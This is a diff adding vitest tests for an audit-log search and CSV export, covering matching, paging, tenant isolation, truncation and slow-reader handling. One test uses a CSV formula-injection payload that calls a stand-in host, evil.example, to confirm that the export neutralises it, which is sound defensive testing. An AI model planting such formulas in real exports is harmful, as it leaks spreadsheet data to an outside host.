@@ -1,0 +1,160 @@
+import { connect } from 'node:net'
+import { appApiBase } from '@parapet/contract'
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
+import { createPerson, type Visitor } from '../../../test/web-visitor.ts'
+import { createWorld, expectError, type TestOrganization, useWorld, type World } from '../../../test/world.ts'
+import { newId } from '../../platform/crypto/random.ts'
+import { exportAuditLog } from './export-audit.ts'
+
+let world: World
+let org: TestOrganization
+let admin: { id: string; visitor: Visitor }
+beforeAll(async () => {
+  world = await createWorld()
+  org = await world.organization()
+  admin = await createPerson(world, org, { role: 'org_admin' })
+})
+afterAll(() => world?.close())
+
+type Entry = { id: string; action: string; subjectId: string | null; actorName: string }
+
+const search = async (word: string, more = '') =>
+  (await admin.visitor.call('GET', `/audit-log/search?search=${encodeURIComponent(word)}${more}`)).body as Entry[]
+
+async function addLines(world: World, org: TestOrganization, action: string, count: number, text = ''): Promise<void> {
+  await world.database.pool.query(
+    `insert into audit_log (org_id, id, actor_type, action, subject_type, details)
+     select $1, id, 'system', $3, 'line', $4 from unnest($2::uuid[]) id`,
+    [org.id, Array.from({ length: count }, newId), action, { text }],
+  )
+}
+
+describe('a search of the log', () => {
+  test('finds by action, by subject, by who did it, in any case, and nothing else', async () => {
+    const team = (await org.request('POST', '/teams', { name: 'Platform' })).body
+    const isTeamLine = ({ action }: Entry) => action === 'team.created'
+
+    for (const word of ['team.cre', 'TEAM.CREATED', ' team.created ', team.id, team.id.slice(0, 20), 'test KEY']) {
+      expect((await search(word)).some(isTeamLine), word).toBe(true)
+    }
+    expect(new Set((await search('grace')).map(({ actorName }) => actorName))).toEqual(new Set(['Grace Sample']))
+    expect((await search('operator')).every(({ actorName }) => actorName === 'Operator')).toBe(true)
+    expect(await search('no such word')).toEqual([])
+  })
+
+  test.each(['%', '_', '\\', "'", '100%'])('takes %j as it is, not as a pattern', async (word) => {
+    const found = await search(word)
+
+    expect(found.every((entry) => JSON.stringify(entry).includes(word))).toBe(true)
+  })
+
+  test('goes on from a line, without a gap and without a repeat', async () => {
+    await addLines(world, org, 'line.paged', 23)
+    const pages: Entry[] = []
+    for (let page = await search('paged', '&limit=5'); page.length > 0; ) {
+      pages.push(...page)
+      page = await search('paged', `&limit=5&before=${page.at(-1)?.id}`)
+    }
+
+    expect(pages).toEqual(await search('paged', '&limit=500'))
+    expect(pages).toHaveLength(23)
+  })
+
+  test('without a word is the whole log', async () => {
+    const { text } = await admin.visitor.call('GET', '/audit-log/search')
+
+    expect(text).toBe((await admin.visitor.call('GET', '/audit-log')).text)
+  })
+
+  test('refuses a word that is too long', async () => {
+    const answer = await admin.visitor.call('GET', `/audit-log/search?search=${'x'.repeat(201)}`)
+
+    expect(expectError(answer, 400, 'invalid_request')).toMatchObject({ field: 'search' })
+  })
+})
+
+describe('the log as a file', () => {
+  const download = (query = '', visitor = admin.visitor) => visitor.call('GET', `/audit-log/export${query}`)
+
+  test('is CSV to be saved, with a line for each line of the log', async () => {
+    const { headers, text } = await download()
+    const entries = (await admin.visitor.call('GET', '/audit-log?limit=500')).body as Entry[]
+    const [first, ...lines] = text.trimEnd().split('\r\n')
+
+    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
+    expect(headers.get('content-disposition')).toBe('attachment; filename="audit-log.csv"')
+    expect(headers.get('cache-control')).toBe('no-store')
+    expect(first?.replace('\uFEFF', '')).toBe(
+      'createdAt,actorType,actorId,actorName,action,subjectType,subjectId,details,requestId,id',
+    )
+    expect(lines.map((line) => line.split(',').at(-1))).toEqual(entries.map(({ id }) => id))
+  })
+
+  test('has only what was searched for', async () => {
+    await addLines(world, org, 'line.exported', 3)
+    const { text } = await download('?search=exported')
+
+    expect(text.match(/line\.exported/g)).toHaveLength(3)
+    expect(text.trimEnd().split('\r\n')).toHaveLength(4)
+  })
+
+  test('holds no formula, whatever people and keys are called', async () => {
+    const name = '=HYPERLINK("https://evil.example/"&A1)'
+    const { key } = await org.createKey(['teams:write'], { name })
+    await org.request('POST', '/teams', { name: 'Formula' }, { key })
+    const { text } = await download('?search=team.created')
+
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`)
+    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m)
+  })
+
+  test('has nothing of another organization', async () => {
+    const other = await world.organization()
+    const { visitor } = await createPerson(world, other, { role: 'org_admin' })
+    await addLines(world, org, 'line.hidden', 1)
+
+    expect((await download('?search=line.', visitor)).text).not.toContain('line.hidden')
+    expect((await download('', visitor)).text).not.toContain(org.keyId)
+  })
+})
+
+describe('a log that is very long', () => {
+  test('is cut, and the last line says so', async () => {
+    const org = await world.organization()
+    await addLines(world, org, 'line.many', 12)
+    const collect = async (maxLines: number) => {
+      let text = ''
+      for await (const piece of exportAuditLog(org.context(), 'many', maxLines)) text += piece
+      return text.trimEnd().split('\r\n')
+    }
+
+    const cut = await collect(10)
+    expect(cut).toHaveLength(12)
+    expect(cut.at(-1)).toBe('(older lines are left out: a file has at most 10)')
+    expect(await collect(12), 'nothing is left out').toHaveLength(13)
+  })
+
+  test('is not made any further for somebody who does not read it', async () => {
+    const world = await useWorld({ httpLimits: { fileHandlerTimeoutMs: 1000 } })
+    const org = await world.organization()
+    const { visitor } = await createPerson(world, org, { role: 'org_admin' })
+    await addLines(world, org, 'line.long', 3000, 'x'.repeat(10_000))
+    const { hostname, port } = new URL(world.url)
+    // As many as an organization may have at once. What is sent fills the buffers on the way, and then the service waits.
+    for (let n = 0; n < 2; n++) {
+      const closed = new Promise<void>((resolve) => {
+        world.http.fastify.server.once('connection', (socket) => socket.once('close', () => resolve()))
+      })
+      const socket = connect(Number(port), hostname)
+      onTestFinished(() => void socket.destroy())
+      const head = `GET ${appApiBase}/audit-log/export HTTP/1.1\r\nHost: x\r\nCookie: ${visitor.cookie}\r\n\r\n`
+      socket.pause().write(head)
+      await closed
+    }
+
+    const noise = world.logLines.filter((line) => line.includes('already sent'))
+    expect(noise, 'an answer after the answer').toEqual([])
+    expect((await world.request('GET', '/healthz')).status).toBe(200)
+    expect((await visitor.call('GET', '/audit-log/export?search=session')).status, 'their places are free').toBe(200)
+  })
+})
